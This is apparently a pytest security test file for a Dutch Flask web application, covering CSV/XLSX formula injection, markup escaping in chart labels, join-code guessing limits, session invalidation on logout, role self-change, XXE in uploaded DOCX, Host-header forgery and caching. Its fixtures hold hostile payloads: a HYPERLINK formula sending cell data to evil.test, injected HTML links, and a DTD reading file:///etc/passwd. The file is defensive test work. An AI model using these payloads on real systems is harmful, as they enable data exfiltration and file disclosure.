"""The smaller holes of issue 14, each through HTTP: formulas in downloads, markup in chart
labels, join-code guessing, logout, a beheerder's own role, uploaded XML with a DTD, the Host
header and caching of logged-in pages."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from dla import create_app
from dla.agendas.models import Version
from dla.analysis import services as analysis
from dla.auth.models import Invitation, Membership, User
from dla.charts.persistence import expand_hover
from dla.extensions import db
from dla.measurements import services as measurements
from dla.safexml import UnsafeXML, safe_xml_parse
from dla.werksessies.models import Werksessie
from tests.factories import (
    PASSWORD,
    log_in,
    make_agenda,
    make_region,
    make_user,
    make_version,
    question,
)

FORMULA = '=HYPERLINK("https://evil.test/?d="&A2,"Klik")'
MARKUP = '<a href="https://evil.test/">Klik</a> <span style="font-size:90px">groot</span>'
PLAIN_QUESTION = question("regie houden", "ik geen mandaat heb")


# --- a region whose free text holds formulas and markup --------------------------------------


@pytest.fixture
def world(app):
    """Everything the charts and exports show, with formulas and markup in the text."""
    with app.app_context():
        region = make_region("Regio <b>Vet</b>")
        agenda = make_agenda(region, title=f"Agenda {MARKUP}")
        version = make_version(
            agenda,
            [
                f"Hoe kan ik {MARKUP} doen, terwijl het niet mag?",
                FORMULA,
                "-1+1 Hoe kan ik rekenen, terwijl het een formule lijkt?",
                PLAIN_QUESTION,
            ],
            publish=True,
            day=date(2025, 1, 10),
        )
        aspect = analysis.add_heading(region, axis="aspect", name=f"Wet {MARKUP}")
        actor = analysis.add_heading(region, axis="actor", name="@Gemeente <i>schuin</i>")
        item = analysis.create_item(
            region, aspect_id=aspect.id, actor_id=actor.id, description="+Geen mandaat"
        )
        thread = version.wordings[0].thread
        analysis.link_thread(thread, item)
        indicator = measurements.create_indicator(
            region,
            name=f"Doorbraken {MARKUP}",
            concerns="gezinnen",
            horizon="kort",
            kind="aantal",
            unit="<b>gezinnen</b>",
            audiences=["professionals"],
        )
        measurements.add_observation(
            indicator, observed_on=date(2025, 2, 1), value="-3", narrative="@iedereen =1+1"
        )
        leader = make_user("pl@test.nl", region=region, role="projectleider")
        db.session.commit()
        return {
            "region": region.id,
            "agenda": agenda.id,
            "indicator": indicator.id,
            "leader": leader.get_id(),
        }


def _client(app, user_id=None):
    client = app.test_client()
    if user_id:
        log_in(client, user_id)
    return client


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_inert(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: every formula-like text starts with an apostrophe."""
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert re.fullmatch(r"-?\d+(?:[.,]\d+)?", cell), cell


# --- 1. CSV formula injection ----------------------------------------------------------------


def test_region_csv_keeps_formulas_inert_and_the_text_whole(app, world):
    client = _client(app, world["leader"])
    response = client.get(f"/regios/{world['region']}/export.csv")
    assert response.status_code == 200
    rows = _csv(response.data)
    _assert_inert(rows)
    questions = [row[rows[0].index("vraag")] for row in rows[1:]]
    assert "'" + FORMULA in questions
    assert "'-1+1 Hoe kan ik rekenen, terwijl het een formule lijkt?" in questions
    assert PLAIN_QUESTION in questions  # ordinary text is untouched


def test_every_csv_in_the_bundle_and_the_chart_downloads_is_inert(app, world):
    client = _client(app, world["leader"])
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/regios/{world['region']}/export.zip").data))
    csv_names = [name for name in archive.namelist() if name.endswith(".csv")]
    assert len(csv_names) == 16  # the question tables, documenten, codebook and the rest
    seen = ""
    for name in csv_names:
        rows = _csv(archive.read(name))
        _assert_inert(rows)
        seen += json.dumps(rows)
    assert json.dumps("'" + FORMULA)[1:-1] in seen
    assert "'+Geen mandaat" in seen and "'@iedereen =1+1" in seen
    downloads = [
        f"/agendas/{world['agenda']}/grafieken/{name}.csv"
        for name in ("persistentie", "verloop", "overleving")
    ] + [
        f"/regios/{world['region']}/grafieken/barrieres.csv",
        f"/metingen/{world['indicator']}/trend.csv",
    ]
    for url in downloads:
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_inert(_csv(response.data))
    persistence = _csv(client.get(downloads[0]).data)
    assert any("'" + FORMULA in row for row in persistence)
    trend = _csv(client.get(downloads[-1]).data)
    header, first = trend[0], trend[1]
    assert first[header.index("waarde")] == "-3.0"  # a negative number stays a number
    assert first[header.index("verhaal")] == "'@iedereen =1+1"
    heat = _csv(client.get(downloads[3]).data)
    assert heat[1][1] == "'@Gemeente <i>schuin</i>"


def test_xlsx_stores_formula_like_text_as_text(app, world):
    client = _client(app, world["leader"])
    response = client.get(f"/regios/{world['region']}/export.xlsx")
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook["Formuleringen"]
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("vraag")] for row in sheet.iter_rows(min_row=2)]
    risky = next(cell for cell in cells if cell.value == FORMULA)
    # Text, not a formula (openpyxl would give data_type "f"), with Excel's quote prefix so
    # that editing the cell keeps it text; the text itself is exactly what was written.
    assert risky.data_type == "s" and risky.quotePrefix
    plain = next(cell for cell in cells if cell.value == PLAIN_QUESTION)
    assert plain.data_type == "s" and not plain.quotePrefix
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


# --- 4. markup in chart labels ---------------------------------------------------------------


def _figure(page: str, chart: str) -> dict:
    return json.loads(re.search(rf'id="{chart}-data">(.*?)</script>', page, re.S).group(1))


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _assert_no_markup(figure: dict) -> None:
    """Only the app's own tags (<b>, <br>, <i>, <extra>) are left in any label or text."""
    for text in _strings(figure):
        for tag in re.findall(r"<\s*/?\s*([a-zA-Z]+)", text):
            assert tag.lower() in {"b", "br", "i", "extra"}, text
        assert "<a " not in text and "<span" not in text and "<b>Vet" not in text


def test_chart_labels_and_titles_show_markup_as_text(app, world):
    client = _client(app, world["leader"])
    agenda_page = client.get(f"/agendas/{world['agenda']}/grafieken").get_data(as_text=True)
    persistence = expand_hover(_figure(agenda_page, "chart-persistence"))
    _assert_no_markup(persistence)
    assert "&lt;a href=" in persistence["layout"]["title"]["text"]
    # Row labels show the barrier ("…terwijl het niet mag"); the region's chart groups the
    # rows under their agenda's title, escaped.
    labels = persistence["layout"]["yaxis"]["ticktext"]
    assert any("…terwijl het niet mag" in name for name in labels), labels
    hover = [text for trace in persistence["data"] for text in trace.get("hovertext", [])]
    assert any("&lt;a href=" in text and "&lt;span style=" in text for text in hover)
    for chart in ("chart-flow", "chart-survival"):
        _assert_no_markup(_figure(agenda_page, chart))
    region_page = client.get(f"/regios/{world['region']}/grafieken").get_data(as_text=True)
    region_rows = _figure(region_page, "chart-persistence")
    _assert_no_markup(region_rows)
    assert any("&lt;a href=" in name for name in region_rows["layout"]["yaxis"]["ticktext"])
    heat = _figure(region_page, "chart-heat")
    _assert_no_markup(heat)
    assert heat["layout"]["title"]["text"].endswith("Regio &lt;b&gt;Vet&lt;/b&gt;")
    assert heat["data"][0]["y"] == [f"Wet {MARKUP}".replace("<", "&lt;").replace(">", "&gt;")]
    assert heat["data"][0]["x"] == ["@Gemeente &lt;i&gt;schuin&lt;/i&gt;"]
    indicator_page = client.get(f"/metingen/{world['indicator']}").get_data(as_text=True)
    trend = _figure(indicator_page, "chart-trend")
    _assert_no_markup(trend)
    assert trend["layout"]["yaxis"]["title"]["text"] == "&lt;b&gt;gezinnen&lt;/b&gt;"
    assert "&lt;a href=" in trend["data"][0]["name"]


# --- 2. join codes ---------------------------------------------------------------------------


@pytest.fixture
def open_session(app):
    with app.app_context():
        agenda = make_agenda()
        make_version(agenda, [PLAIN_QUESTION], publish=True, day=date(2025, 11, 1))
        leader = make_user("pl@test.nl", region=agenda.region, role="projectleider")
        db.session.commit()
        region_id, agenda_id, leader_id = agenda.region_id, agenda.id, leader.get_id()
    client = _client(app, leader_id)
    response = client.post(
        f"/regios/{region_id}/werksessies/nieuw",
        data={
            "kind": "werksessie",
            "title": "Werksessie",
            "session_date": "12-03-2026",
            "agenda_ids": [str(agenda_id)],
            "max_participants": "300",
            "allow_anonymous": "y",
        },
    )
    ws_id = int(response.headers["Location"].rsplit("/", 1)[1])
    assert client.post(f"/werksessies/{ws_id}/openen").status_code == 303
    with app.app_context():
        return db.session.get(Werksessie, ws_id).code


CODE_ROUTES = [
    ("get", "/w/{code}"),
    ("post", "/w/{code}/aanmelden"),
    ("get", "/w/{code}/stand"),
    ("post", "/w/{code}/voorbeeld"),
    ("post", "/w/{code}/vragen"),
    ("post", "/w/{code}/stem"),
]


def _guess(client, method: str, path: str, code: str):
    return getattr(client, method)(path.format(code=code), data={"role": "professional"})


def _wrong(n: int) -> str:
    """A well-formed code that no session has (digits 0 and 1 are never in a code)."""
    return f"{n:06d}".replace("2", "0").replace("3", "1")[-6:].rjust(6, "0")


def test_one_failed_code_limit_covers_every_code_route(app, open_session):
    guesser = app.test_client()
    statuses = []
    for n in range(12):
        method, path = CODE_ROUTES[n % len(CODE_ROUTES)]
        statuses.append(_guess(guesser, method, path, _wrong(n)).status_code)
    # Ten wrong codes on whichever routes, then this browser's wrong codes are refused …
    assert statuses[:10] == [404] * 10 and statuses[10:] == [429, 429]
    for method, path in CODE_ROUTES:
        assert _guess(guesser, method, path, _wrong(50)).status_code == 429
    assert "Te veel pogingen" in guesser.get(f"/w/{_wrong(51)}").get_data(as_text=True)
    # … but a correct code is always admitted: a room never locks itself out.
    assert guesser.post("/doe-mee", data={"code": open_session}).status_code == 303
    assert guesser.get(f"/w/{open_session}").status_code == 200
    assert _guess(guesser, "post", "/w/{code}/aanmelden", open_session).status_code == 303


def test_a_correct_code_still_works_after_others_in_the_room_mistyped(app, open_session):
    # Ten wrong codes from the venue's address within a minute, then the correct one.
    first = app.test_client()
    for n in range(10):
        first.post("/doe-mee", data={"code": _wrong(n)})
    assert first.post("/doe-mee", data={"code": open_session}).status_code == 303
    # Three people on the venue's wifi type wrong codes until they are told to wait.
    for _person in range(3):
        mistyper = app.test_client()
        for n in range(11):
            mistyper.post("/doe-mee", data={"code": _wrong(n)})
        assert mistyper.get(f"/w/{_wrong(99)}").status_code == 429
    # Everybody else at that address gets in with the right code and takes part.
    for _person in range(20):
        phone = app.test_client()
        assert phone.post("/doe-mee", data={"code": open_session}).status_code == 303
        assert phone.get(f"/w/{open_session}").status_code == 200
        joined = phone.post(f"/w/{open_session}/aanmelden", data={"role": "professional"})
        assert joined.status_code == 303
        assert phone.get(f"/w/{open_session}/stand").status_code == 200
    # Correct codes are never counted: many of them do not bring anyone nearer the limit.
    for _poll in range(50):
        assert phone.get(f"/w/{open_session}/stand?stand=x").status_code in (200, 204)


def test_phones_of_a_closed_session_do_not_use_up_the_rooms_limit(app, open_session):
    phones = []
    for _person in range(12):
        phone = app.test_client()
        assert (
            phone.post(f"/w/{open_session}/aanmelden", data={"role": "professional"}).status_code
            == 303
        )
        phones.append(phone)
    with app.app_context():
        ws_id = db.session.scalar(select(Werksessie.id).where(Werksessie.code == open_session))
        leader = db.session.scalar(select(User).where(User.email == "pl@test.nl")).get_id()
    closed = _client(app, leader).post(
        f"/werksessies/{ws_id}/sluiten", data={"toch_afsluiten": "1"}
    )
    assert closed.status_code == 303
    # The phones keep polling for a while: each gets the 410 of its own session …
    for _poll in range(15):
        for phone in phones:
            assert phone.get(f"/w/{open_session}/stand").status_code == 410
    # … and the old code is just unknown to anyone else, and to them with another code.
    assert app.test_client().get(f"/w/{open_session}").status_code == 404
    assert phones[0].get(f"/w/{_wrong(7)}").status_code == 404
    # 180 polls later the room still has its whole limit for the next session.
    newcomer = app.test_client()
    statuses = {newcomer.get(f"/w/{_wrong(n)}").status_code for n in range(10)}
    assert statuses == {404}


def test_guessing_without_cookies_is_stopped_per_address(app, open_session):
    guesser = app.test_client(use_cookies=False)
    statuses = [guesser.get(f"/w/{_wrong(n)}/stand").status_code for n in range(2400)]
    assert statuses.count(404) == 100  # the address's limit: 100 wrong codes in 10 minutes
    assert statuses[100:] == [429] * 2300
    # The right code still gets in (the people in the room share this address); the
    # protection against guessing is the code space (CODE_LENGTH), not a lock-out.
    assert guesser.get(f"/w/{open_session}").status_code == 200


def test_the_code_space_makes_guessing_infeasible():
    from dla.werksessies.models import CODE_ALPHABET, CODE_LENGTH

    space = len(set(CODE_ALPHABET)) ** CODE_LENGTH
    # A day of 200 guesses a second against ten open sessions: below 1 in 500.
    assert 200 * 86_400 * 10 / space < 1 / 500


def test_the_failed_code_limit_counts_in_redis_too(database_url):
    """With REDIS_URL (several app servers) the counts are shared; without a Redis that
    answers, each process counts in memory instead of letting guesses through."""
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "x",
            "SQLALCHEMY_DATABASE_URI": database_url,
            "WTF_CSRF_ENABLED": False,
            "RATELIMIT_STORAGE_URI": "redis://127.0.0.1:1/0",  # nothing listens there
        }
    )
    with app.app_context():
        db.create_all()
    try:
        guesser = app.test_client()
        statuses = [guesser.get(f"/w/{_wrong(n)}").status_code for n in range(11)]
        assert statuses == [404] * 10 + [429]
    finally:
        with app.app_context():
            db.session.remove()
            db.drop_all()
            db.engine.dispose()


# --- 3. logout ends the session on the server ------------------------------------------------


def test_a_copied_cookie_stops_working_at_logout(app):
    with app.app_context():
        region = make_region()
        make_user("pl@test.nl", region=region, role="projectleider")
        db.session.commit()
        region_id = region.id
    browser = app.test_client()
    assert (
        browser.post("/inloggen", data={"email": "pl@test.nl", "password": PASSWORD}).status_code
        == 302
    )
    copied = browser.get_cookie("session").value
    thief = app.test_client()
    thief.set_cookie("session", copied)
    assert thief.get(f"/regios/{region_id}").status_code == 200
    assert browser.post("/uitloggen").status_code == 302
    assert thief.get(f"/regios/{region_id}").status_code == 303  # to the login page
    assert browser.get(f"/regios/{region_id}").status_code == 303
    # Logging in again works, with a new token the old cookie does not carry.
    assert (
        browser.post("/inloggen", data={"email": "pl@test.nl", "password": PASSWORD}).status_code
        == 302
    )
    assert browser.get(f"/regios/{region_id}").status_code == 200
    assert thief.get(f"/regios/{region_id}").status_code == 303


def test_a_copied_cookie_stops_working_at_a_password_change(app):
    with app.app_context():
        region = make_region()
        make_user("pl@test.nl", region=region, role="projectleider")
        db.session.commit()
        region_id = region.id
    browser = app.test_client()
    browser.post("/inloggen", data={"email": "pl@test.nl", "password": PASSWORD})
    thief = app.test_client()
    thief.set_cookie("session", browser.get_cookie("session").value)
    changed = browser.post(
        "/account/wachtwoord", data={"current": PASSWORD, "new": "groene-fiets-onder-de-brug"}
    )
    assert changed.status_code == 302
    assert browser.get(f"/regios/{region_id}").status_code == 200
    assert thief.get(f"/regios/{region_id}").status_code == 303


# --- 5. a beheerder and their own role -------------------------------------------------------


@pytest.fixture
def beheerder(app):
    with app.app_context():
        region = make_region()
        own = make_user("beheer@test.nl", region=region, role="beheerder")
        make_user("ander@test.nl", region=region, role="deelnemer")
        db.session.commit()
        memberships = {
            m.user.email: m.id
            for m in db.session.scalars(select(Membership).where(Membership.region_id == region.id))
        }
        return {"region": region.id, "user": own.get_id(), "memberships": memberships}


def test_beheerder_cannot_change_their_own_role(app, beheerder):
    client = _client(app, beheerder["user"])
    own = beheerder["memberships"]["beheer@test.nl"]
    response = client.post(f"/lidmaatschappen/{own}", data={"role": "projectleider"})
    assert response.status_code == 403
    assert "U kunt uw eigen rol niet wijzigen" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(Membership, own).role == "beheerder"
    page = client.get(f"/regios/{beheerder['region']}/leden").get_data(as_text=True)
    assert f'action="/lidmaatschappen/{own}"' not in page
    # The role of someone else can still be changed.
    other = beheerder["memberships"]["ander@test.nl"]
    response = client.post(f"/lidmaatschappen/{other}", data={"role": "taskforce"})
    assert response.status_code == 303
    with app.app_context():
        assert db.session.get(Membership, other).role == "taskforce"


def test_beheerder_cannot_invite_themselves_into_another_role(app, beheerder):
    client = _client(app, beheerder["user"])
    response = client.post(
        f"/regios/{beheerder['region']}/uitnodigingen",
        data={"email": "Beheer@Test.nl", "role": "projectleider"},
    )
    assert response.status_code == 422
    assert "U kunt uzelf niet uitnodigen" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(Invitation.id)) is None


def test_an_invitation_cannot_be_accepted_by_the_beheerder_who_made_it(app, beheerder):
    client = _client(app, beheerder["user"])
    response = client.post(
        f"/regios/{beheerder['region']}/uitnodigingen",
        data={"email": "nieuw@test.nl", "role": "projectleider"},
    )
    link = re.search(r'value="(http[^"]+/uitnodiging/[^"]+)"', response.get_data(as_text=True))
    token = link.group(1).rsplit("/", 1)[1]
    with app.app_context():
        # The beheerder changes the address of their own account to the invited one …
        user = db.session.scalar(select(User).where(User.email == "beheer@test.nl"))
        user.email = "nieuw@test.nl"
        db.session.commit()
    response = client.post(f"/uitnodiging/{token}", data={"name": "X", "password": PASSWORD})
    assert response.status_code == 422
    assert "U kunt uzelf niet uitnodigen" in response.get_data(as_text=True)
    with app.app_context():
        own = beheerder["memberships"]["beheer@test.nl"]
        assert db.session.get(Membership, own).role == "beheerder"


# --- 6. uploaded XML -------------------------------------------------------------------------

ENTITY_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-16"?>'
    '<!DOCTYPE w:document [<!ENTITY geheim "UITGEBREID-DOOR-ENTITEIT">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>&geheim; Hoe kan ik regie houden, terwijl ik geen mandaat heb?"
    "</w:t></w:r></w:p></w:body></w:document>"
)


def _docx(document_xml: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", document_xml)
    return buffer.getvalue()


def test_safe_xml_parse_refuses_any_dtd_in_any_encoding():
    for encoding in ("utf-8", "utf-16", "utf-16-le"):
        text = ENTITY_DOCUMENT.replace("UTF-16", encoding.upper())
        with pytest.raises(UnsafeXML):
            safe_xml_parse(text.encode(encoding))
    with pytest.raises(UnsafeXML):
        safe_xml_parse(b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')
    with pytest.raises(UnsafeXML):
        safe_xml_parse(b"<x><y></x>")
    assert safe_xml_parse("<x>é</x>".encode("utf-16")).text == "é"


def test_uploaded_docx_with_a_utf16_dtd_is_refused_in_dutch(app):
    with app.app_context():
        agenda = make_agenda()
        leader = make_user("pl@test.nl", region=agenda.region, role="projectleider")
        db.session.commit()
        region_id, leader_id = agenda.region_id, leader.get_id()
    client = _client(app, leader_id)
    upload = _docx(ENTITY_DOCUMENT.encode("utf-16"))
    response = client.post(
        f"/regios/{region_id}/importeren",
        data={"bestand": (io.BytesIO(upload), "agenda.docx")},
        content_type="multipart/form-data",
    )
    body = response.get_data(as_text=True)
    assert 400 <= response.status_code < 500
    assert "beschadigd" in body and "UITGEBREID-DOOR-ENTITEIT" not in body
    with app.app_context():
        assert db.session.scalar(select(Version.id)) is None


# --- 7. the Host header ----------------------------------------------------------------------


def _hosted_app(database_url, monkeypatch, **env):
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "x",
            "SQLALCHEMY_DATABASE_URI": database_url,
            "WTF_CSRF_ENABLED": False,
            "PASSWORD_HASH_FAST": True,
        }
    )
    with app.app_context():
        db.create_all()
    return app


def test_a_forged_host_is_refused_and_links_use_the_configured_host(database_url, monkeypatch):
    app = _hosted_app(
        database_url,
        monkeypatch,
        DLA_TRUSTED_HOSTS="dla.example.nl, intern.example.nl",
        DLA_SERVER_NAME="dla.example.nl",
        DLA_URL_SCHEME="https",
    )
    try:
        assert app.config["TRUSTED_HOSTS"] == ["dla.example.nl", "intern.example.nl"]
        with app.app_context():
            region = make_region()
            make_user("admin@test.nl", admin=True)
            db.session.commit()
            region_id = region.id
        client = app.test_client()
        inside = {"Host": "intern.example.nl"}
        login = {"email": "admin@test.nl", "password": PASSWORD}
        assert client.post("/inloggen", data=login, headers=inside).status_code == 302
        forged = client.get("/inloggen", headers={"Host": "evil.test"})
        assert forged.status_code == 400
        assert "evil.test" not in forged.get_data(as_text=True)
        assert "hoort niet bij deze website" in forged.get_data(as_text=True)
        forged = client.post(
            f"/regios/{region_id}/uitnodigingen",
            data={"email": "nieuw@test.nl", "role": "deelnemer"},
            headers={"Host": "evil.test"},
        )
        assert forged.status_code == 400
        with app.app_context():
            assert db.session.scalar(select(Invitation.id)) is None
        # A trusted host that is not the public one still gets links to the public one.
        response = client.post(
            f"/regios/{region_id}/uitnodigingen",
            data={"email": "nieuw@test.nl", "role": "deelnemer"},
            headers=inside,
        )
        assert response.status_code == 200
        assert 'value="https://dla.example.nl/uitnodiging/' in response.get_data(as_text=True)
        # Outside a request (a CLI command) links use the same host and scheme.
        from flask import url_for

        with app.app_context():
            assert url_for("werksessies.enter_code", _external=True) == (
                "https://dla.example.nl/doe-mee"
            )
    finally:
        with app.app_context():
            db.session.remove()
            db.drop_all()
            db.engine.dispose()


def test_without_the_setting_any_host_is_answered(client):
    assert client.get("/inloggen", headers={"Host": "elders.test"}).status_code == 200


def test_bad_host_settings_are_refused_at_start(database_url, monkeypatch):
    monkeypatch.setenv("DLA_TRUSTED_HOSTS", " , ")
    with pytest.raises(RuntimeError, match="DLA_TRUSTED_HOSTS"):
        create_app({"TESTING": True, "SECRET_KEY": "x", "SQLALCHEMY_DATABASE_URI": database_url})
    monkeypatch.delenv("DLA_TRUSTED_HOSTS")
    monkeypatch.setenv("DLA_URL_SCHEME", "ftp")
    with pytest.raises(RuntimeError, match="DLA_URL_SCHEME"):
        create_app({"TESTING": True, "SECRET_KEY": "x", "SQLALCHEMY_DATABASE_URI": database_url})


# --- 8. no caching of what a logged-in person sees -------------------------------------------


# Pages with an ETag (dla.caching.pages) may be kept by this person's browser only, which must
# ask every time (private, no-cache); everything else a logged-in person gets is no-store.
REVALIDATE = "private, no-cache, must-revalidate"


def test_logged_in_pages_are_not_stored(app, world):
    client = _client(app, world["leader"])
    for url, expected in (
        (f"/regios/{world['region']}", REVALIDATE),
        (f"/agendas/{world['agenda']}/grafieken", REVALIDATE),
        (f"/regios/{world['region']}/export.csv", "no-store"),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Cache-Control"] == expected, url
    fragment = client.get(
        f"/regios/{world['region']}/grafieken/barrieres", headers={"HX-Request": "true"}
    )
    assert fragment.headers["Cache-Control"] == REVALIDATE
    # Files that are the same for everyone stay cacheable.
    with client.get("/static/css/app.css") as static:
        assert static.status_code == 200
        assert "no-store" not in static.headers.get("Cache-Control", "")
    # The login page of someone not logged in is not a private page.
    assert "no-store" not in app.test_client().get("/inloggen").headers.get("Cache-Control", "")
    # Logging out tells the browser to drop the pages it kept.
    assert client.post("/uitloggen").headers["Clear-Site-Data"] == '"cache"'
